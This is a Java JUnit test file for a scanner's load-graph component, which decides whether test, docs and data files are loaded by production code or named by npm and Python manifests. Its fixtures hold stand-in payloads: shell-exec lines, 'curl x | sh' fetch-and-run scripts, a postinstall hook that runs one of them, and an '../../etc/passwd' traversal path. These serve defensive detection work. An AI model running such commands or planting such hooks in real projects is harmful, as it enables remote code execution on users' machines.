package dev.assay.extract.component;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.assay.engine.fact.FileTag;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Test code, docs and data files that the rest of the component loads carry loaded-by-code or named-by-manifest (the
 * pack keeps their matches in scope); those nothing loads carry neither and stay demoted.
 */
class LoadGraphTest {

    private static final String PAYLOAD_JS = "require('child_process').exec('id');\n";
    private static final String PAYLOAD_PY = "import os\nos.system('id')\n";

    /** file → "tag: note" of its load tags. */
    private static Map<String, String> loadTags(Scan scan) {
        return scan.all(FileTag.class).stream()
                .filter(t -> t.tag().equals(LoadGraph.LOADED_BY_CODE) || t.tag().equals(LoadGraph.NAMED_BY_MANIFEST))
                .collect(Collectors.toMap(FileTag::file, t -> t.tag() + ": " + t.note(), (a, b) -> a, TreeMap::new));
    }

    @Test
    void jsRequireAndImportOfTestFilesFromProductionCode(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "index.js", "const h = require('./test/helpers.js');\nimport u from './__tests__/util';\n",
                "test/helpers.js", "require('./deeper');\n" + PAYLOAD_JS,
                "test/deeper.js", PAYLOAD_JS,
                "__tests__/util.ts", PAYLOAD_JS,
                "test/alone.test.js", "require('./helpers.js');\nrequire('./only-from-tests.js');\n",
                "test/only-from-tests.js", PAYLOAD_JS));
        assertEquals(Map.of(
                "test/helpers.js", "loaded-by-code: imported by index.js line 1",
                "test/deeper.js", "loaded-by-code: imported by test/helpers.js line 1",
                "__tests__/util.ts", "loaded-by-code: imported by index.js line 2"), loadTags(scan));
    }

    @Test
    void pythonImportsOfLocalModules(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "pkg/__init__.py", "",
                "pkg/core.py", "from tests.helpers import run\nfrom .fixtures import data\n",
                "pkg/fixtures/data.py", PAYLOAD_PY,
                "tests/__init__.py", "",
                "tests/helpers.py", PAYLOAD_PY,
                "tests/test_core.py", "import tests.unused\n",
                "tests/unused.py", PAYLOAD_PY));
        Map<String, String> tags = loadTags(scan);
        assertEquals("loaded-by-code: imported by pkg/core.py line 1", tags.get("tests/helpers.py"));
        assertEquals("loaded-by-code: imported by pkg/core.py line 1", tags.get("tests/__init__.py"));
        assertEquals(null, tags.get("tests/unused.py"), tags.toString());
        assertEquals(null, tags.get("tests/test_core.py"), tags.toString());
    }

    @Test
    void everyRunningCallOfOneCalleeLoadsWhatItRunsAndALookAlikeCalleeLoadsNothing(@TempDir Path dir) {
        // The answer per callee is kept for the scan: later calls of the same callee, in the same file and in other
        // files, must still load what they run; a callee that only looks like a running call must not.
        Scan scan = Scan.files(dir, Map.of(
                "a.py", "import subprocess\nsubprocess.run('tests/one.sh')\nsubprocess.run('tests/two.sh')\n",
                "b.py", "import subprocess\nsubprocess.run('tests/three.sh')\n",
                "c.py", "import mysubprocess\nmysubprocess.run('tests/four.sh')\n",
                "tests/one.sh", "curl x | sh\n",
                "tests/two.sh", "curl x | sh\n",
                "tests/three.sh", "curl x | sh\n",
                "tests/four.sh", "curl x | sh\n"));
        Map<String, String> tags = loadTags(scan);
        assertEquals("loaded-by-code: run by a.py line 2", tags.get("tests/one.sh"));
        assertEquals("loaded-by-code: run by a.py line 3", tags.get("tests/two.sh"));
        assertEquals("loaded-by-code: run by b.py line 2", tags.get("tests/three.sh"));
        assertEquals(null, tags.get("tests/four.sh"), tags.toString());
    }

    @Test
    void bashSourceDotAndInterpreterRuns(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "install.sh", "#!/bin/sh\nsource ./test/lib.sh\n. test/env.sh\nbash tests/run.sh --fast\n"
                        + "python3 tests/setup_env.py\n",
                "test/lib.sh", "curl x | sh\n",
                "test/env.sh", "curl x | sh\n",
                "tests/run.sh", "curl x | sh\n",
                "tests/setup_env.py", PAYLOAD_PY,
                "tests/other.sh", "curl x | sh\n"));
        Map<String, String> tags = loadTags(scan);
        assertEquals("loaded-by-code: sourced by install.sh line 2", tags.get("test/lib.sh"));
        assertEquals("loaded-by-code: sourced by install.sh line 3", tags.get("test/env.sh"));
        assertEquals("loaded-by-code: run by install.sh line 4", tags.get("tests/run.sh"));
        assertEquals("loaded-by-code: run by install.sh line 5", tags.get("tests/setup_env.py"));
        assertEquals(null, tags.get("tests/other.sh"));
    }

    @Test
    void filesNamedByAnNpmManifest(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "package.json", "{\"name\": \"p\", \"version\": \"1.0.0\", \"main\": \"test/index.js\",\n"
                        + " \"bin\": {\"p\": \"./test/cli.js\"},\n"
                        + " \"exports\": {\".\": {\"import\": \"./docs/esm.mjs\"}},\n"
                        + " \"scripts\": {\"postinstall\": \"node test/setup.js\", \"test\": \"node test/t.js\"}}\n",
                "test/index.js", PAYLOAD_JS,
                "test/cli.js", PAYLOAD_JS,
                "docs/esm.mjs", PAYLOAD_JS,
                "test/setup.js", PAYLOAD_JS,
                "test/t.js", PAYLOAD_JS));
        Map<String, String> tags = loadTags(scan);
        assertEquals("named-by-manifest: named by package.json main (line 1)", tags.get("test/index.js"));
        assertEquals("named-by-manifest: named by package.json bin.p (line 2)", tags.get("test/cli.js"));
        assertEquals("named-by-manifest: named by package.json exports...import (line 3)", tags.get("docs/esm.mjs"));
        assertEquals("named-by-manifest: run by package.json postinstall (line 4)", tags.get("test/setup.js"));
        assertEquals(null, tags.get("test/t.js"), "the test script is how tests run, not how consumers use it");
    }

    @Test
    void pythonEntryPoints(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "pyproject.toml", "[project]\nname = \"p\"\nversion = \"1\"\n[project.scripts]\n"
                        + "p = \"tests.helpers:main\"\n",
                "setup.cfg", "[options.entry_points]\nconsole_scripts =\n    q = testing.cli:run\n",
                "setup.py", "from setuptools import setup\n"
                        + "setup(name='p', entry_points={'console_scripts': ['r=spec.tool:main']})\n",
                "tests/helpers.py", PAYLOAD_PY,
                "testing/cli.py", PAYLOAD_PY,
                "spec/tool.py", PAYLOAD_PY,
                "tests/test_x.py", PAYLOAD_PY));
        Map<String, String> tags = loadTags(scan);
        assertEquals(List.of("spec/tool.py", "testing/cli.py", "tests/helpers.py"), List.copyOf(tags.keySet()));
        assertEquals("named-by-manifest: named by pyproject.toml project.scripts.p (line 5)",
                tags.get("tests/helpers.py"));
    }

    @Test
    void agentFacingAndOrdinaryFilesNeedNoTag(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "index.js", "require('./lib/a.js');\nrequire('left-pad');\nrequire('../outside.js');\n",
                "lib/a.js", PAYLOAD_JS));
        assertEquals(Map.of(), loadTags(scan));
    }

    @Test
    void normalizeStaysInsideTheComponent() {
        assertEquals("a/c", LoadGraph.normalize("a/./b/../c"));
        assertEquals(null, LoadGraph.normalize("a/../../etc/passwd"));
        assertEquals(null, LoadGraph.normalize("./"));
    }
}
